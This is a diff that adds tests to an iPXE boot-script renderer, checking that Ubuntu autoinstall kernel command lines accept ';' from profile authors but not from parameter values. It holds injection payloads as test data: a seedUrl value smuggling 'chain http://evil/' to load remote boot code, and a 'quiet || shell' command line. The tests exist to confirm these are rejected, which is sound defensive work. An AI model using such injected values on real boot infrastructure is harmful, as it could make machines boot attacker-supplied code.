@@ -118,6 +118,26 @@ describe('who gets what', () => {
   });
 });
 
+describe('kernel command lines', () => {
+  const ubuntu = profile('ubuntu', {
+    type: 'kernel',
+    kernel: { kernel: { url: 'http://192.0.2.1/casper/vmlinuz' }, cmdline: 'ip=dhcp autoinstall ds=nocloud-net;s={{seedUrl}}' },
+    parameters: { seedUrl: 'http://192.0.2.1/seed/' },
+  });
+
+  it('lets the profile author use ";" (Ubuntu autoinstall needs it) but not in parameter values', () => {
+    const ok = renderFor(ubuntu, undefined, { firmware: 'bios', serverUrl: SERVER });
+    expect(ok.kind === 'profile' && ok.script).toContain('ds=nocloud-net;s=http://192.0.2.1/seed/');
+    const injected = renderFor(ubuntu, assignment({ parameters: { seedUrl: 'http://x/; chain http://evil/' } }), { firmware: 'bios', serverUrl: SERVER });
+    expect(injected).toMatchObject({ kind: 'renderError', parameter: 'seedUrl' });
+  });
+
+  it('still refuses a command line that would break the script\'s structure', () => {
+    const broken = profile('broken', { type: 'kernel', kernel: { kernel: { url: 'http://192.0.2.1/k' }, cmdline: 'quiet || shell' } });
+    expect(renderFor(broken, undefined, { firmware: 'bios', serverUrl: SERVER })).toMatchObject({ kind: 'renderError', parameter: 'cmdline' });
+  });
+});
+
 describe('fixed scripts (golden)', () => {
   it('chain', () => golden('chain.ipxe', buildChainScript(SERVER)));
   it('fallback menu', () => golden('fallback-menu.ipxe', buildFallbackMenu(SERVER, [{ namespace: 'lab', name: 'rescue' }, { namespace: 'lab', name: 'memtest' }])));
